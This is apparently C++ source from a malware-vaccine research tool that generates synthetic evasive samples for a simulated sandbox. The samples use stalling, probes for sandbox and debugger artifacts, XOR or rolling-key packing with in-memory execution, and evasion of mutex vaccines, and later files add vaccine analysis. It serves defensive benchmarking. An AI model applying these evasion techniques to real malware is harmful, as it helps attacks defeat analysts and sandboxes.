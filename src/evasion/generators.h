// Evasive-behaviour generators layered over malware/behaviors: each
// emitter drops one anti-analysis technique into an AsmWriter sample.
// The evasion corpus composes these with the standard marker/payload
// snippets so every evasive sample still carries a resource constraint
// the pipeline could, in principle, turn into a vaccine — the robustness
// bench measures how often each technique defeats that.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "evasion/classes.h"
#include "evasion/payload.h"
#include "malware/asm_writer.h"
#include "support/rng.h"

namespace autovac::evasion {

// ---- stalling / virtual-clock abuse ----------------------------------
// Burns roughly `total_millis` of virtual time in Sleep rounds before
// control reaches whatever follows, re-reading GetTickCount around each
// round and bailing to `exit_label` when the clock fails to advance
// (the classic fake-clock sandbox probe; the sandbox's virtual clock
// does advance, so on the analyzer the probe passes).
void EmitStallingPrelude(malware::AsmWriter& w, Rng& rng,
                         uint32_t total_millis,
                         const std::string& exit_label);

// ---- environment / artifact probes -----------------------------------
// Emits `count` probes for analysis-environment artifacts — sandbox
// marker files, instrumentation DLLs in the module table, analysis
// processes, debugger windows — each exiting via `exit_label` when the
// artifact is present.
void EmitEnvironmentProbes(malware::AsmWriter& w, Rng& rng, size_t count,
                           const std::string& exit_label);

// ---- runtime unpacking ------------------------------------------------
// Emits a packed infection-marker stage: `mutex_name` and the code that
// checks it are packed with `scheme`/`key` into an .rdata blob; at
// runtime a stub decrypts the blob into a .data buffer and calls into
// it (write-then-execute). The in-buffer payload creates the mutex,
// checks ERROR_ALREADY_EXISTS and ExitProcess-es when the marker is
// present; otherwise it returns to the stub, which falls through to the
// code emitted after this call.
void EmitPackedMutexMarker(malware::AsmWriter& w, PackScheme scheme,
                           uint8_t key, const std::string& mutex_name,
                           uint32_t* unpacked_bytes = nullptr);

// ---- vaccine-aware marker chains -------------------------------------
// Seeded derivation chain: name i is DeriveChainName(stem, i). The
// sample probes each name with OpenMutexA in order and claims the first
// free one; a taken name is treated as a potential vaccine and the
// sample re-derives the next identifier instead of trusting it. Only
// when every name in the chain is taken does it accept "infected" and
// exit. chain_length == 1 degenerates to a plain marker.
[[nodiscard]] std::string DeriveChainName(const std::string& stem,
                                          uint32_t index);
void EmitVaccineAwareMarker(malware::AsmWriter& w, const std::string& stem,
                            uint32_t chain_length,
                            const std::string& exit_label);

}  // namespace autovac::evasion
