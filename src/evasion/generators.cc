#include "evasion/generators.h"

#include "malware/behaviors.h"
#include "sandbox/api_ids.h"
#include "support/strings.h"

namespace autovac::evasion {
namespace {

int64_t Api(sandbox::ApiId id) { return static_cast<int64_t>(id); }

}  // namespace

void EmitStallingPrelude(malware::AsmWriter& w, Rng& rng,
                         uint32_t total_millis,
                         const std::string& exit_label) {
  const uint32_t rounds = 2 + static_cast<uint32_t>(rng.NextBelow(3));
  const uint32_t per_round = total_millis / rounds;
  for (uint32_t r = 0; r < rounds; ++r) {
    w.Text("sys GetTickCount");
    w.Text("mov edi, eax");
    w.Text("push %u", per_round);
    w.Text("sys Sleep");
    w.Text("add esp, 4");
    w.Text("sys GetTickCount");
    w.Text("sub eax, edi");
    // GetTickCount carries up to ~1s of jitter; half the sleep is a safe
    // "did the clock really advance" threshold on any honest machine.
    w.Text("cmp eax, %u", per_round / 2);
    w.Text("jl %s", exit_label.c_str());
  }
}

void EmitEnvironmentProbes(malware::AsmWriter& w, Rng& rng, size_t count,
                           const std::string& exit_label) {
  static const std::vector<std::string> kMarkerFiles = {
      "C:\\sandbox.flag", "C:\\analysis\\agent.py",
      "C:\\iDEFENSE\\SysAnalyzer.exe", "C:\\cuckoo\\agent.pyw"};
  static const std::vector<std::string> kAnalysisDlls = {
      "sbiedll.dll", "dbghelp_hook.dll", "api_log.dll", "vmcheck.dll"};
  static const std::vector<std::string> kAnalysisProcs = {
      "vmtoolsd.exe", "wireshark.exe", "procmon.exe", "vboxservice.exe"};
  static const std::vector<std::string> kDebuggerWindows = {
      "OLLYDBG", "WinDbgFrameClass", "ID"};

  for (size_t i = 0; i < count; ++i) {
    switch (rng.NextBelow(4)) {
      case 0: {
        // Sandbox-marker file present -> being analyzed -> bail.
        const std::string label = w.AddString(rng.Pick(kMarkerFiles));
        w.Text("push %s", label.c_str());
        w.Text("sys GetFileAttributesA");
        w.Text("add esp, 4");
        w.Text("cmp eax, 0xFFFFFFFF");
        w.Text("jnz %s", exit_label.c_str());
        break;
      }
      case 1:
        // Instrumentation DLL in the module table (handle sniffing).
        malware::EmitAvLibraryCheck(w, rng.Pick(kAnalysisDlls), exit_label);
        break;
      case 2:
        malware::EmitAvProcessCheck(w, rng.Pick(kAnalysisProcs), exit_label);
        break;
      default: {
        // Debugger top-level window probe.
        const std::string cls = w.AddString(rng.Pick(kDebuggerWindows));
        const std::string title = w.AddString("");
        w.Text("push %s", title.c_str());
        w.Text("push %s", cls.c_str());
        w.Text("sys FindWindowA");
        w.Text("add esp, 8");
        w.Text("cmp eax, 0");
        w.Text("jnz %s", exit_label.c_str());
        break;
      }
    }
  }
}

void EmitPackedMutexMarker(malware::AsmWriter& w, PackScheme scheme,
                           uint8_t key, const std::string& mutex_name,
                           uint32_t* unpacked_bytes) {
  // Plaintext payload (position-independent, esi = buffer base): create
  // the marker mutex whose name lives in the blob's own data region,
  // exit when it already existed, otherwise return to the stub.
  PayloadBuilder payload;
  const uint32_t name_off = payload.AddCString(mutex_name);
  payload.EmitDataRef(vm::Op::kLea, vm::Reg::kEax, vm::Reg::kEsi, name_off);
  payload.Emit(vm::Op::kPushR, vm::Reg::kEax);
  payload.Emit(vm::Op::kPushI, vm::Reg::kNone, vm::Reg::kNone, 1);
  payload.Emit(vm::Op::kSys, vm::Reg::kNone, vm::Reg::kNone,
               Api(sandbox::ApiId::kCreateMutexA));
  payload.Emit(vm::Op::kAddRI, vm::Reg::kEsp, vm::Reg::kNone, 8);
  payload.Emit(vm::Op::kSys, vm::Reg::kNone, vm::Reg::kNone,
               Api(sandbox::ApiId::kGetLastError));
  payload.Emit(vm::Op::kCmpRI, vm::Reg::kEax, vm::Reg::kNone,
               183);  // ERROR_ALREADY_EXISTS
  payload.EmitBranch(vm::Op::kJz, "infected");
  payload.Emit(vm::Op::kRet);
  payload.Bind("infected");
  payload.Emit(vm::Op::kPushI, vm::Reg::kNone, vm::Reg::kNone, 0);
  payload.Emit(vm::Op::kSys, vm::Reg::kNone, vm::Reg::kNone,
               Api(sandbox::ApiId::kExitProcess));

  const std::vector<uint8_t> plain = payload.Build();
  const std::vector<uint8_t> packed = Pack(plain, scheme, key);
  const std::string blob = w.AddWords(BytesToWords(packed));
  const std::string buf = w.AddBuffer((plain.size() + 7) & ~size_t{7});
  if (unpacked_bytes != nullptr) {
    *unpacked_bytes = static_cast<uint32_t>(plain.size());
  }

  // Unpacker stub: byte-wise copy+decrypt loop, then enter the buffer.
  const std::string loop = w.NewLabel("unpack");
  const std::string done = w.NewLabel("unpacked");
  w.Text("mov ecx, 0");
  w.Text("mov edx, %s", blob.c_str());
  w.Text("mov edi, %s", buf.c_str());
  if (scheme == PackScheme::kAddRolling) w.Text("mov ebx, %u", key);
  w.Label(loop);
  w.Text("cmp ecx, %zu", plain.size());
  w.Text("jge %s", done.c_str());
  w.Text("loadb eax, [edx]");
  switch (scheme) {
    case PackScheme::kXor:
      w.Text("xor eax, %u", key);
      break;
    case PackScheme::kAddRolling:
      w.Text("sub eax, ebx");
      w.Text("and eax, 255");
      w.Text("inc ebx");
      break;
  }
  w.Text("storeb [edi], eax");
  w.Text("inc edx");
  w.Text("inc edi");
  w.Text("inc ecx");
  w.Text("jmp %s", loop.c_str());
  w.Label(done);
  w.Text("mov esi, %s", buf.c_str());
  w.Text("call %s", buf.c_str());
}

std::string DeriveChainName(const std::string& stem, uint32_t index) {
  uint64_t h = HashSeed(stem);
  for (uint32_t i = 0; i <= index; ++i) {
    h = h * 6364136223846793005ull + 1442695040888963407ull;
  }
  return StrFormat("%s-%06x", stem.c_str(),
                   static_cast<unsigned>(h % 0x1000000));
}

void EmitVaccineAwareMarker(malware::AsmWriter& w, const std::string& stem,
                            uint32_t chain_length,
                            const std::string& exit_label) {
  const std::string proceed = w.NewLabel("chain_ok");
  std::vector<std::string> names;
  std::vector<std::string> claims;
  for (uint32_t i = 0; i < chain_length; ++i) {
    names.push_back(w.AddString(DeriveChainName(stem, i)));
    claims.push_back(w.NewLabel("claim"));
  }
  // Probe the chain in order; a taken name might be a vaccine, so
  // re-derive instead of trusting it.
  for (uint32_t i = 0; i < chain_length; ++i) {
    w.Text("push %s", names[i].c_str());
    w.Text("push 0");
    w.Text("sys OpenMutexA");
    w.Text("add esp, 8");
    w.Text("cmp eax, 0");
    w.Text("jz %s", claims[i].c_str());
  }
  // Every derived identifier is taken: accept "already infected".
  w.Text("jmp %s", exit_label.c_str());
  for (uint32_t i = 0; i < chain_length; ++i) {
    w.Label(claims[i]);
    w.Text("push %s", names[i].c_str());
    w.Text("push 1");
    w.Text("sys CreateMutexA");
    w.Text("add esp, 8");
    w.Text("jmp %s", proceed.c_str());
  }
  w.Label(proceed);
}

}  // namespace autovac::evasion
