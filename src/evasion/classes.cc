#include "evasion/classes.h"

namespace autovac::evasion {

std::string_view EvasionClassName(EvasionClass cls) {
  switch (cls) {
    case EvasionClass::kStalling: return "stalling";
    case EvasionClass::kEnvProbe: return "env-probe";
    case EvasionClass::kRuntimeUnpack: return "runtime-unpack";
    case EvasionClass::kVaccineAware: return "vaccine-aware";
    case EvasionClass::kClassCount: break;
  }
  return "?";
}

std::optional<EvasionClass> ParseEvasionClass(std::string_view name) {
  for (EvasionClass cls : AllEvasionClasses()) {
    if (name == EvasionClassName(cls)) return cls;
  }
  return std::nullopt;
}

const std::vector<EvasionClass>& AllEvasionClasses() {
  static const std::vector<EvasionClass> kAll = {
      EvasionClass::kStalling, EvasionClass::kEnvProbe,
      EvasionClass::kRuntimeUnpack, EvasionClass::kVaccineAware};
  return kAll;
}

}  // namespace autovac::evasion
