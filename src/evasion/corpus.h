// Evasive corpus generation: per-class samples composing the evasion
// generators with the standard infection-marker + payload snippets. The
// same seed yields a byte-identical corpus (sources and programs), which
// the CLI relies on to write reproducible .asm corpora to disk.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "evasion/classes.h"
#include "support/status.h"
#include "vm/program.h"

namespace autovac::evasion {

struct EvasiveSample {
  vm::Program program;
  EvasionClass cls = EvasionClass::kStalling;
  // Assembler source the program was built from — what `autovac corpus`
  // writes to disk; assembling it reproduces `program` exactly.
  std::string source;
};

struct EvasiveCorpusOptions {
  uint64_t seed = 2013;
  size_t per_class = 8;
  // Classes to generate; empty means all of them.
  std::vector<EvasionClass> classes;
};

[[nodiscard]] Result<std::vector<EvasiveSample>> GenerateEvasiveCorpus(
    const EvasiveCorpusOptions& options = {});

// One sample of the given class (exposed for tests and the demo tools).
[[nodiscard]] Result<EvasiveSample> GenerateEvasiveSample(
    EvasionClass cls, uint64_t sample_seed, const std::string& name);

}  // namespace autovac::evasion
