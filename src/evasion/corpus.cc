#include "evasion/corpus.h"

#include "evasion/generators.h"
#include "malware/behaviors.h"
#include "support/rng.h"
#include "support/strings.h"

namespace autovac::evasion {
namespace {

// Stable per-sample seed independent of which class subset is being
// generated: requesting one class reproduces exactly the samples a full
// run would have produced for it.
uint64_t SampleSeed(uint64_t corpus_seed, EvasionClass cls, size_t index) {
  return HashSeed(StrFormat("%llx/%s/%zu",
                            static_cast<unsigned long long>(corpus_seed),
                            std::string(EvasionClassName(cls)).c_str(),
                            index));
}

}  // namespace

Result<EvasiveSample> GenerateEvasiveSample(EvasionClass cls,
                                            uint64_t sample_seed,
                                            const std::string& name) {
  malware::AsmWriter w(name);
  Rng rng(sample_seed);
  w.SetEvasionClass(std::string(EvasionClassName(cls)));
  const std::string exit_label = w.NewLabel("bail");
  const std::string mutex_name = "EVA_" + rng.NextIdentifier(10);
  const std::string host = "cnc-" + rng.NextIdentifier(6) + ".example.net";

  malware::EmitJunk(w, rng, 2 + rng.NextBelow(4));
  switch (cls) {
    case EvasionClass::kStalling: {
      // 20s..110s of virtual stall: kOneMinuteBudget sits inside this
      // range, so a seed-stable share of samples outlast Phase-I before
      // ever touching their marker.
      const auto total_ms =
          static_cast<uint32_t>(20'000 + rng.NextBelow(90'001));
      EmitStallingPrelude(w, rng, total_ms, exit_label);
      malware::EmitMutexMarkerStatic(w, mutex_name, exit_label);
      break;
    }
    case EvasionClass::kEnvProbe:
      EmitEnvironmentProbes(w, rng, 2 + rng.NextBelow(3), exit_label);
      malware::EmitMutexMarkerStatic(w, mutex_name, exit_label);
      break;
    case EvasionClass::kRuntimeUnpack: {
      const PackScheme scheme =
          rng.NextBool() ? PackScheme::kXor : PackScheme::kAddRolling;
      const auto key = static_cast<uint8_t>(1 + rng.NextBelow(255));
      EmitPackedMutexMarker(w, scheme, key, mutex_name);
      break;
    }
    case EvasionClass::kVaccineAware: {
      // ~40% degenerate single-name chains (plain-marker behaviour);
      // the rest re-derive through 2-3 fallback identifiers.
      const uint32_t chain =
          rng.NextBool(0.4) ? 1 : 2 + static_cast<uint32_t>(rng.NextBelow(2));
      EmitVaccineAwareMarker(w, "EVA_" + rng.NextIdentifier(6), chain,
                             exit_label);
      break;
    }
    case EvasionClass::kClassCount:
      return Status::InvalidArgument("bad evasion class");
  }
  malware::EmitNetworkBurst(w, host, 2);
  malware::EmitEpilogue(w, exit_label);

  EvasiveSample sample;
  sample.cls = cls;
  sample.source = w.Source();
  AUTOVAC_ASSIGN_OR_RETURN(sample.program, w.Assemble());
  return sample;
}

Result<std::vector<EvasiveSample>> GenerateEvasiveCorpus(
    const EvasiveCorpusOptions& options) {
  const std::vector<EvasionClass>& classes =
      options.classes.empty() ? AllEvasionClasses() : options.classes;
  std::vector<EvasiveSample> corpus;
  corpus.reserve(classes.size() * options.per_class);
  for (EvasionClass cls : classes) {
    for (size_t i = 0; i < options.per_class; ++i) {
      const std::string name =
          StrFormat("evasive_%s_%03zu",
                    std::string(EvasionClassName(cls)).c_str(), i);
      AUTOVAC_ASSIGN_OR_RETURN(
          EvasiveSample sample,
          GenerateEvasiveSample(cls, SampleSeed(options.seed, cls, i), name));
      corpus.push_back(std::move(sample));
    }
  }
  return corpus;
}

}  // namespace autovac::evasion
