// The evasion-class taxonomy measured by the robustness bench: one
// enumerator per anti-analysis technique family from the dynamic-
// analysis evasion survey. Every evasive sample is stamped with its
// class (Program::evasion_class / SampleReport::evasion_class) so
// blocked-detection rates can be broken down per class.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

namespace autovac::evasion {

enum class EvasionClass : uint8_t {
  // Sleep-burn stalling loops + virtual-clock probes before the first
  // resource touch; long enough stalls push the resource constraint past
  // the analyzer's Phase-I budget.
  kStalling = 0,
  // Environment/artifact probes: sandbox-marker files, analysis-DLL
  // handle sniffing, analysis-process and debugger-window checks.
  kEnvProbe,
  // XOR / add-rolling packed payloads that materialize their mutex
  // identifier (and the code touching it) in a .data buffer at runtime —
  // requires the VM's write-then-execute support.
  kRuntimeUnpack,
  // Families that treat their own infection marker as a potential
  // vaccine and walk a seeded derivation chain of fallback identifiers.
  kVaccineAware,
  kClassCount,
};

inline constexpr size_t kNumEvasionClasses =
    static_cast<size_t>(EvasionClass::kClassCount);

// Canonical names ("stalling", "env-probe", "runtime-unpack",
// "vaccine-aware") — the spelling used by CLI flags, report tags and
// BENCH_robustness.json keys.
[[nodiscard]] std::string_view EvasionClassName(EvasionClass cls);

// Strict inverse of EvasionClassName; nullopt for unknown names.
[[nodiscard]] std::optional<EvasionClass> ParseEvasionClass(
    std::string_view name);

[[nodiscard]] const std::vector<EvasionClass>& AllEvasionClasses();

}  // namespace autovac::evasion
