#include "evasion/payload.h"

#include "support/status.h"

namespace autovac::evasion {

void PayloadBuilder::Emit(vm::Op op, vm::Reg r1, vm::Reg r2, int64_t imm) {
  Slot slot;
  slot.inst = {op, r1, r2, imm};
  code_.push_back(std::move(slot));
}

void PayloadBuilder::EmitBranch(vm::Op op, const std::string& label) {
  Slot slot;
  slot.inst = {op, vm::Reg::kNone, vm::Reg::kNone, 0};
  slot.fixup = FixupKind::kBranch;
  slot.label = label;
  code_.push_back(std::move(slot));
}

void PayloadBuilder::EmitDataRef(vm::Op op, vm::Reg r1, vm::Reg r2,
                                 uint32_t data_off, int64_t extra) {
  Slot slot;
  slot.inst = {op, r1, r2, 0};
  slot.fixup = FixupKind::kData;
  slot.data_off = data_off;
  slot.extra = extra;
  code_.push_back(std::move(slot));
}

void PayloadBuilder::Bind(const std::string& label) {
  AUTOVAC_CHECK_MSG(labels_.emplace(label, code_.size()).second,
                    "duplicate payload label");
}

uint32_t PayloadBuilder::AddData(std::string_view bytes) {
  const auto off = static_cast<uint32_t>(data_.size());
  data_.insert(data_.end(), bytes.begin(), bytes.end());
  return off;
}

uint32_t PayloadBuilder::AddCString(const std::string& text) {
  const uint32_t off = AddData(text);
  data_.push_back(0);
  return off;
}

std::vector<uint8_t> PayloadBuilder::Build() const {
  const uint32_t code_bytes =
      static_cast<uint32_t>(code_.size()) * vm::kEncodedInstrSize;
  std::vector<uint8_t> out;
  out.reserve(code_bytes + data_.size());
  for (size_t i = 0; i < code_.size(); ++i) {
    vm::Instruction inst = code_[i].inst;
    switch (code_[i].fixup) {
      case FixupKind::kNone:
        break;
      case FixupKind::kBranch: {
        auto it = labels_.find(code_[i].label);
        AUTOVAC_CHECK_MSG(it != labels_.end(), "undefined payload label");
        inst.imm = (static_cast<int64_t>(it->second) -
                    static_cast<int64_t>(i)) *
                   vm::kEncodedInstrSize;
        break;
      }
      case FixupKind::kData:
        inst.imm = static_cast<int64_t>(code_bytes) + code_[i].data_off +
                   code_[i].extra;
        break;
    }
    const auto encoded = vm::EncodeInstruction(inst);
    out.insert(out.end(), encoded.begin(), encoded.end());
  }
  out.insert(out.end(), data_.begin(), data_.end());
  return out;
}

std::string_view PackSchemeName(PackScheme scheme) {
  switch (scheme) {
    case PackScheme::kXor: return "xor";
    case PackScheme::kAddRolling: return "add-rolling";
  }
  return "?";
}

std::vector<uint8_t> Pack(const std::vector<uint8_t>& plain,
                          PackScheme scheme, uint8_t key) {
  std::vector<uint8_t> out(plain.size());
  for (size_t i = 0; i < plain.size(); ++i) {
    switch (scheme) {
      case PackScheme::kXor:
        out[i] = plain[i] ^ key;
        break;
      case PackScheme::kAddRolling:
        out[i] = static_cast<uint8_t>(plain[i] + key + (i & 0xFF));
        break;
    }
  }
  return out;
}

std::vector<uint32_t> BytesToWords(const std::vector<uint8_t>& bytes) {
  std::vector<uint32_t> words((bytes.size() + 3) / 4, 0);
  for (size_t i = 0; i < bytes.size(); ++i) {
    words[i / 4] |= static_cast<uint32_t>(bytes[i]) << (8 * (i % 4));
  }
  return words;
}

}  // namespace autovac::evasion
