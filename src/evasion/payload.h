// Builder for position-independent in-memory payloads: the plaintext a
// packer stub decrypts into a .data buffer and then executes via the
// VM's memory-execution mode (vm/isa.h's fixed 8-byte encoding).
//
// Blob layout: encoded instructions first (entry at offset 0, so a stub
// simply `call`s the buffer base), then a data region for the strings
// the payload materializes at runtime. Control flow inside the blob is
// pc-relative; data references are esi-relative by convention — the stub
// loads the buffer base into esi before entering the payload.
#pragma once

#include <cstdint>
#include <map>
#include <string>
#include <string_view>
#include <vector>

#include "vm/isa.h"

namespace autovac::evasion {

class PayloadBuilder {
 public:
  // Appends one instruction with a literal immediate.
  void Emit(vm::Op op, vm::Reg r1 = vm::Reg::kNone,
            vm::Reg r2 = vm::Reg::kNone, int64_t imm = 0);

  // Appends a branch/call whose immediate becomes the pc-relative byte
  // offset to `label` at Build() time.
  void EmitBranch(vm::Op op, const std::string& label);

  // Appends an instruction whose immediate becomes `data_off` rebased
  // onto the blob's data region (code_size + data_off + extra). Used for
  // `lea reg, [esi + <data>]` style references.
  void EmitDataRef(vm::Op op, vm::Reg r1, vm::Reg r2, uint32_t data_off,
                   int64_t extra = 0);

  // Binds `label` to the next emitted instruction.
  void Bind(const std::string& label);

  // Reserves bytes in the data region; returns the offset within it.
  uint32_t AddData(std::string_view bytes);
  // Convenience: AddData(text + NUL).
  uint32_t AddCString(const std::string& text);

  // Resolves fixups and returns the raw plaintext blob.
  [[nodiscard]] std::vector<uint8_t> Build() const;

 private:
  enum class FixupKind : uint8_t { kNone, kBranch, kData };
  struct Slot {
    vm::Instruction inst;
    FixupKind fixup = FixupKind::kNone;
    std::string label;      // kBranch
    uint32_t data_off = 0;  // kData
    int64_t extra = 0;      // kData
  };

  std::vector<Slot> code_;
  std::vector<uint8_t> data_;
  std::map<std::string, size_t> labels_;  // label -> instruction index
};

// Packing schemes the unpacker stubs implement.
enum class PackScheme : uint8_t { kXor = 0, kAddRolling };

[[nodiscard]] std::string_view PackSchemeName(PackScheme scheme);

// kXor: out[i] = in[i] ^ key.
// kAddRolling: out[i] = (in[i] + key + i) & 0xFF — a rolling-key scheme
// whose unpacker must track position, not just a constant.
[[nodiscard]] std::vector<uint8_t> Pack(const std::vector<uint8_t>& plain,
                                        PackScheme scheme, uint8_t key);

// Chops bytes into little-endian 32-bit words (zero-padded) for the
// assembler's `word` data kind.
[[nodiscard]] std::vector<uint32_t> BytesToWords(
    const std::vector<uint8_t>& bytes);

}  // namespace autovac::evasion
