// Exclusiveness analysis (§IV-A): exclude resource identifiers that are
// also used by benign software, "otherwise our vaccine will have false
// positives".
//
// The paper queries the Google search API ("Googling the Internet",
// unavailable offline); our index is built from the same evidence class:
// every identifier touched by the benign-software corpus running in the
// sandbox, plus a pre-built whitelist of well-known system names.
#pragma once

#include <map>
#include <set>
#include <string>
#include <string_view>
#include <vector>

#include "os/resources.h"
#include "trace/trace.h"

namespace autovac::analysis {

struct SearchHit {
  std::string identifier;
  std::string context;  // which benign program / whitelist entry uses it
};

class ExclusivenessIndex {
 public:
  ExclusivenessIndex();

  // Indexes every resource identifier in a benign program's trace.
  void IndexBenignTrace(std::string_view program_name,
                        const trace::ApiTrace& trace);

  // Adds one whitelist entry directly.
  void AddKnownBenign(std::string_view identifier, std::string_view context);

  // The "search query": hits for this identifier among benign software.
  [[nodiscard]] std::vector<SearchHit> Query(std::string_view identifier) const;

  // No conflicting benign use -> safe vaccine candidate.
  [[nodiscard]] bool IsExclusive(std::string_view identifier) const;

  // Every canonical identifier the benign corpus + whitelist touched, in
  // sorted (map) order. The vaccine store scans this to quarantine
  // partial-static patterns that would also match benign resources.
  [[nodiscard]] std::vector<std::string> Identifiers() const;

  [[nodiscard]] size_t size() const { return index_.size(); }

 private:
  void LoadBuiltinWhitelist();

  // canonical identifier -> contexts using it
  std::map<std::string, std::set<std::string>> index_;
};

}  // namespace autovac::analysis
