#include "analysis/exclusiveness.h"

#include "os/object_namespace.h"
#include "support/strings.h"

namespace autovac::analysis {

ExclusivenessIndex::ExclusivenessIndex() { LoadBuiltinWhitelist(); }

void ExclusivenessIndex::LoadBuiltinWhitelist() {
  // Well-known names any end host uses; the paper names uxtheme.dll and
  // mscrt.dll as examples of non-exclusive library identifiers.
  static constexpr const char* kSystemNames[] = {
      "kernel32.dll", "ntdll.dll", "user32.dll", "advapi32.dll",
      "uxtheme.dll", "msvcrt.dll", "mscrt.dll", "ws2_32.dll", "wininet.dll",
      "shell32.dll", "ole32.dll", "gdi32.dll", "comctl32.dll", "crypt32.dll",
      "explorer.exe", "svchost.exe", "winlogon.exe", "lsass.exe",
      "services.exe", "SCManager",
      "C:\\Windows\\explorer.exe", "C:\\Windows\\system32\\svchost.exe",
      "C:\\Windows\\system32\\ntoskrnl.exe", "C:\\Windows\\system.ini",
      "C:\\autoexec.bat",
      "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
      "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
      "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon",
      "HKLM\\System\\CurrentControlSet\\Services",
  };
  for (const char* name : kSystemNames) {
    AddKnownBenign(name, "system-whitelist");
  }
}

void ExclusivenessIndex::AddKnownBenign(std::string_view identifier,
                                        std::string_view context) {
  if (identifier.empty()) return;
  index_[os::ObjectNamespace::Canonical(identifier)].insert(
      std::string(context));
}

void ExclusivenessIndex::IndexBenignTrace(std::string_view program_name,
                                          const trace::ApiTrace& trace) {
  for (const trace::ApiCallRecord& call : trace.calls) {
    if (call.is_resource_api && !call.resource_identifier.empty()) {
      AddKnownBenign(call.resource_identifier, program_name);
    }
  }
}

std::vector<SearchHit> ExclusivenessIndex::Query(
    std::string_view identifier) const {
  std::vector<SearchHit> hits;
  auto it = index_.find(os::ObjectNamespace::Canonical(identifier));
  if (it == index_.end()) return hits;
  for (const std::string& context : it->second) {
    hits.push_back({std::string(identifier), context});
  }
  return hits;
}

std::vector<std::string> ExclusivenessIndex::Identifiers() const {
  std::vector<std::string> identifiers;
  identifiers.reserve(index_.size());
  for (const auto& [identifier, contexts] : index_) {
    (void)contexts;
    identifiers.push_back(identifier);
  }
  return identifiers;
}

bool ExclusivenessIndex::IsExclusive(std::string_view identifier) const {
  if (identifier.empty()) return false;  // nothing to key a vaccine on
  return index_.count(os::ObjectNamespace::Canonical(identifier)) == 0;
}

}  // namespace autovac::analysis
