// Impact analysis (§IV-B): re-run the malware in a controlled environment,
// mutate the result of one resource operation at a time, and measure via
// trace differential analysis whether the mutation stops or weakens the
// malware.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include <optional>

#include "analysis/immunization.h"
#include "os/host_environment.h"
#include "sandbox/sandbox.h"
#include "sandbox/snapshot.h"
#include "vm/program.h"

namespace autovac::analysis {

// One resource operation chosen for mutation: the paper mutates "each
// involved API one at a time", matched by call site and identifier.
struct MutationTarget {
  std::string api_name;
  uint32_t caller_pc = 0;
  std::string identifier;
  os::ResourceType resource_type = os::ResourceType::kFile;
  os::Operation operation = os::Operation::kOpen;
  bool natural_success = false;      // outcome in the natural run
  bool natural_already_existed = false;  // CreateMutex-style nuance
  uint32_t anchor_sequence = 0;      // representative call in the natural trace

  // Whether the mutation (and therefore the derived vaccine) simulates
  // the resource's presence, as opposed to denying access to it.
  [[nodiscard]] bool SimulatesPresence() const {
    // A naturally failing access is mutated to success (the resource
    // appears to exist).
    if (!natural_success) return true;
    // A create that already found the resource present is mutated the
    // other way: deny it.
    if (natural_already_existed) return false;
    // A fresh successful create of an infection-marker mutex is mutated
    // to "already exists".
    return operation == os::Operation::kCreate &&
           (resource_type == os::ResourceType::kMutex ||
            api_name == "CreateMutexA");
  }
};

// Derives the deduplicated mutation targets from a Phase-I trace:
// resource API occurrences whose taint reached a predicate, plus failed
// resource accesses ("those that lead to the failure of certain system
// calls can all be considered").
[[nodiscard]] std::vector<MutationTarget> CollectMutationTargets(
    const trace::ApiTrace& natural);

// Builds the hook that forces the opposite outcome for every call
// matching the target (same API, same call site, same identifier).
[[nodiscard]] sandbox::ApiHook MakeMutationHook(const MutationTarget& target);

struct ImpactResult {
  MutationTarget target;
  ImmunizationEffect effect;
  trace::ApiTrace mutated_trace;
  // How the mutated run ended — abnormal stops drive the pipeline's
  // retry-with-reduced-budget policy.
  vm::StopReason stop_reason = vm::StopReason::kRunning;
  size_t faults_injected = 0;
};

struct ImpactOptions {
  uint64_t cycle_budget = sandbox::kOneMinuteBudget;
  ClassifierOptions classifier;
  // Execution-envelope caps for the mutated re-run; 0 = unlimited.
  sandbox::RunLimits limits;
  // Optional deterministic fault schedule for the mutated re-run.
  const sandbox::FaultPlan* fault_plan = nullptr;
};

// Runs the mutated execution for one target against a fresh copy of the
// baseline environment and classifies the immunization effect.
[[nodiscard]] ImpactResult RunImpactAnalysis(
    const vm::Program& sample, const os::HostEnvironment& baseline_env,
    const trace::ApiTrace& natural, const MutationTarget& target,
    const ImpactOptions& options = {});

// Snapshot fast path: runs the mutated execution by restoring the machine
// snapshot captured at the target's call site and resuming from there,
// skipping the (mutation-free, hence identical) prefix. Returns nullopt —
// caller falls back to RunImpactAnalysis — when the resume cannot be
// proven equivalent to the full re-run:
//   - the requested cycle budget differs from the capture run's (a full
//     re-run under a smaller budget could stop inside the skipped prefix);
//   - the fault schedule differs from the capture run's (the snapshot
//     carries the capture run's injection cursor);
//   - defensively, if the resumed run's first new call is not the target
//     triple the snapshot claims to sit at.
// When it returns a result, that result is byte-identical to what
// RunImpactAnalysis would have produced.
[[nodiscard]] std::optional<ImpactResult> TryResumeImpactAnalysis(
    const vm::Program& sample, const sandbox::MachineSnapshot& snapshot,
    const trace::ApiTrace& natural, const MutationTarget& target,
    const ImpactOptions& options = {});

}  // namespace autovac::analysis
