#include "analysis/impact.h"

#include <map>
#include <tuple>

#include "os/errors.h"

namespace autovac::analysis {
namespace {

// Failure code a forced failure should surface, by operation.
uint32_t FailureCodeFor(os::Operation operation) {
  switch (operation) {
    case os::Operation::kOpen:
    case os::Operation::kRead:
      return os::kErrorFileNotFound;
    case os::Operation::kCreate:
      return os::kErrorAccessDenied;
    case os::Operation::kWrite:
    case os::Operation::kDelete:
      return os::kErrorAccessDenied;
    case os::Operation::kOpCount:
      break;
  }
  return os::kErrorAccessDenied;
}

}  // namespace

std::vector<MutationTarget> CollectMutationTargets(
    const trace::ApiTrace& natural) {
  std::vector<MutationTarget> targets;
  // Dedup: one mutation per (api, call site, identifier).
  std::map<std::tuple<std::string, uint32_t, std::string>, size_t> seen;

  for (const trace::ApiCallRecord& call : natural.calls) {
    if (!call.is_resource_api) continue;
    // Candidates: taint reached a branch, or the access failed (§I: "those
    // that lead to the failure of certain system calls").
    if (!call.taint_reached_predicate && call.succeeded) continue;
    const auto key =
        std::make_tuple(call.api_name, call.caller_pc,
                        call.resource_identifier);
    if (seen.count(key) > 0) continue;
    seen.emplace(key, targets.size());

    MutationTarget target;
    target.api_name = call.api_name;
    target.caller_pc = call.caller_pc;
